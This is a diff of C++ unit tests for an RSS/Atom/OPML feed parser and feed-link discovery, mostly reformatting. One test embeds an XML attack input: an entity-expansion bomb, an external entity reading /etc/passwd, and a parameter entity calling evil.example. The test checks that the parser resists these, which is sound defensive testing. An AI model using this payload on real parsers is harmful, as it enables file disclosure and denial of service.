@@ -1,6 +1,6 @@
-#include <gtest/gtest.h>
-
 #include <string>
+
+#include <gtest/gtest.h>
 
 #include "discover/feed/autodiscovery.h"
 #include "discover/feed/feed.h"
@@ -37,10 +37,10 @@ std::string atom(std::string_view entry) {
 }
 
 TEST(Rss, GivesTitleLinkDateAndTexts) {
-    const auto item = only_item(
-        rss("<title>A &amp;amp; B: &lt;i&gt;C&lt;/i&gt;</title><link> /post </link><pubDate>Thu, 01 Jan 2004 "
-            "19:48:21 GMT</pubDate><description><![CDATA[<p>Short</p>]]></description>"
-            "<content:encoded><![CDATA[<a href=\"/x\">Long</a>]]></content:encoded>"));
+    const auto item =
+        only_item(rss("<title>A &amp;amp; B: &lt;i&gt;C&lt;/i&gt;</title><link> /post </link><pubDate>Thu, 01 Jan 2004 "
+                      "19:48:21 GMT</pubDate><description><![CDATA[<p>Short</p>]]></description>"
+                      "<content:encoded><![CDATA[<a href=\"/x\">Long</a>]]></content:encoded>"));
     EXPECT_EQ(item.title, "A & B: C");
     EXPECT_EQ(item.link, "https://example.org/post");
     EXPECT_EQ(to_rfc3339(item.published.value()), "2004-01-01T19:48:21Z");
@@ -56,15 +56,17 @@ TEST(Rss, TakesAGuidAsLinkOnlyWhenItIsPermanent) {
 }
 
 TEST(Rss, KeepsThePublishersAddressBesidesTheCounters) {
-    const auto item = only_item(rss("<link>http://feeds.example.com/~r/x</link>"
-                                    "<feedburner:origLink>https://example.org/real</feedburner:origLink>"));
+    const auto item =
+        only_item(rss("<link>http://feeds.example.com/~r/x</link>"
+                      "<feedburner:origLink>https://example.org/real</feedburner:origLink>"));
     EXPECT_EQ(item.original, "https://example.org/real");
 }
 
 TEST(Rss, DoesNotTakeWhatBelongsToImagesAuthorsAndSources) {
-    const auto feed = parse("<rss><channel><image><title>No</title><link>http://no.org/</link></image><item>"
-                            "<source url='http://no.org'>No</source><author><name>n</name></author>"
-                            "<media:group><media:title>Media</media:title></media:group></item></channel></rss>");
+    const auto feed = parse(
+        "<rss><channel><image><title>No</title><link>http://no.org/</link></image><item>"
+        "<source url='http://no.org'>No</source><author><name>n</name></author>"
+        "<media:group><media:title>Media</media:title></media:group></item></channel></rss>");
     ASSERT_TRUE(feed);
     EXPECT_EQ(feed->title, "");
     EXPECT_EQ(feed->items.front().title, "Media");
@@ -85,8 +87,7 @@ TEST(Rss, SurvivesElementsNeverClosed) {
 }
 
 TEST(Rss, KeepsAngleBracketsThatAreNoTags) {
-    EXPECT_EQ(only_item(rss("<title>std::vector&lt;int&gt; and 1 &lt; 2</title>")).title,
-              "std::vector<int> and 1 < 2");
+    EXPECT_EQ(only_item(rss("<title>std::vector&lt;int&gt; and 1 &lt; 2</title>")).title, "std::vector<int> and 1 < 2");
 }
 
 TEST(Atom, TellsItsKindsOfTextApart) {
@@ -103,15 +104,17 @@ TEST(Atom, TellsItsKindsOfTextApart) {
 }
 
 TEST(Atom, PrefersThePageAmongItsLinks) {
-    const auto item = only_item(atom("<link rel='self' href='/self'/><link rel='alternate' type='application/json' "
-                                     "href='/json'/><link rel='alternate' type='text/html' href='/page'/>"
-                                     "<link rel='enclosure' href='/sound'/>"));
+    const auto item =
+        only_item(atom("<link rel='self' href='/self'/><link rel='alternate' type='application/json' "
+                       "href='/json'/><link rel='alternate' type='text/html' href='/page'/>"
+                       "<link rel='enclosure' href='/sound'/>"));
     EXPECT_EQ(item.link, "https://example.org/page");
 }
 
 TEST(Atom, ResolvesLinksByTheInnermostBase) {
-    const auto feed = parse("<feed xmlns='http://www.w3.org/2005/Atom' xml:base='http://a.org/'><entry "
-                            "xml:base='http://b.org/'><link href='/1'/></entry><entry><link href='/2'/></entry></feed>");
+    const auto feed = parse(
+        "<feed xmlns='http://www.w3.org/2005/Atom' xml:base='http://a.org/'><entry "
+        "xml:base='http://b.org/'><link href='/1'/></entry><entry><link href='/2'/></entry></feed>");
     ASSERT_TRUE(feed);
     EXPECT_EQ(feed->items[0].link, "http://b.org/1");
     EXPECT_EQ(feed->items[1].link, "http://a.org/2");
@@ -159,10 +162,11 @@ TEST(WholeArticle, IsLongAndDoesNotEndInATeaser) {
 }
 
 TEST(HostileFeed, EntitiesNeitherMultiplyNorReadFiles) {
-    const auto feed = parse("<!DOCTYPE rss [<!ENTITY a 'lol'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'>"
-                            "<!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;'><!ENTITY x SYSTEM 'file:///etc/passwd'>"
-                            "<!ENTITY % y SYSTEM 'http://evil.example/'> %y; ]>"
-                            "<rss><channel><item><title>&a; &c; &x;</title></item></channel></rss>");
+    const auto feed = parse(
+        "<!DOCTYPE rss [<!ENTITY a 'lol'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'>"
+        "<!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;'><!ENTITY x SYSTEM 'file:///etc/passwd'>"
+        "<!ENTITY % y SYSTEM 'http://evil.example/'> %y; ]>"
+        "<rss><channel><item><title>&a; &c; &x;</title></item></channel></rss>");
     ASSERT_TRUE(feed);
     EXPECT_EQ(feed->items.front().title, "lol &c; &x;");
 }
@@ -203,10 +207,11 @@ TEST(HostileFeed, ManyBasesAndNamespacesStayBounded) {
 }
 
 TEST(Opml, FindsFeedsInAllFolders) {
-    const auto found = parse_opml("\xEF\xBB\xBF<?xml version='1.0'?><opml version='2.0'><body><outline text='Folder'>"
-                                  "<outline type='rss' text='A &amp; B' xmlUrl='https://a.org/f?x&amp;y'/>"
-                                  "<outline text='In'><outline title='C' XMLURL='https://c.org/f'/></outline></outline>"
-                                  "</body></opml>");
+    const auto found = parse_opml(
+        "\xEF\xBB\xBF<?xml version='1.0'?><opml version='2.0'><body><outline text='Folder'>"
+        "<outline type='rss' text='A &amp; B' xmlUrl='https://a.org/f?x&amp;y'/>"
+        "<outline text='In'><outline title='C' XMLURL='https://c.org/f'/></outline></outline>"
+        "</body></opml>");
     ASSERT_TRUE(found);
     ASSERT_EQ(found->size(), 2U);
     EXPECT_EQ((*found)[0].title, "A & B");
@@ -217,21 +222,21 @@ TEST(Opml, FindsFeedsInAllFolders) {
 
 TEST(FeedLink, IsFoundInThePagesHead) {
     const auto page = *Url::parse("https://example.org/blog");
-    EXPECT_EQ(find_feed_link("<!doctype html><script>'<link rel=alternate type=application/rss+xml href=/no>'</script>"
-                             "<!-- <link rel=alternate type=application/rss+xml href=/no> -->"
-                             "<LINK REL='Stylesheet Alternate' TYPE='Application/RSS+XML; charset=utf-8' HREF='/f?a&amp;b'>",
-                             page)
-                  ->href(),
-              "https://example.org/f?a&b");
+    EXPECT_EQ(
+        find_feed_link("<!doctype html><script>'<link rel=alternate type=application/rss+xml href=/no>'</script>"
+                       "<!-- <link rel=alternate type=application/rss+xml href=/no> -->"
+                       "<LINK REL='Stylesheet Alternate' TYPE='Application/RSS+XML; charset=utf-8' HREF='/f?a&amp;b'>",
+                       page)
+            ->href(),
+        "https://example.org/f?a&b");
     EXPECT_EQ(find_feed_link("<link rel=alternate type=application/rss+xml title='Comments' href=/comments/feed>"
                              "<link rel=alternate type=application/atom+xml href=/feed>",
                              page)
                   ->href(),
               "https://example.org/feed");
     EXPECT_FALSE(find_feed_link("<link rel=stylesheet href=/x><body><link rel=alternate type=text/xml href=/y>", page));
-    EXPECT_FALSE(find_feed_link(std::string(kMaxScannedBytes, ' ') +
-                                    "<link rel=alternate type=application/rss+xml href=/late>",
-                                page));
+    EXPECT_FALSE(find_feed_link(
+        std::string(kMaxScannedBytes, ' ') + "<link rel=alternate type=application/rss+xml href=/late>", page));
 }
 
 TEST(FeedLink, PagesAreToldFromFeedsWithAWrongType) {
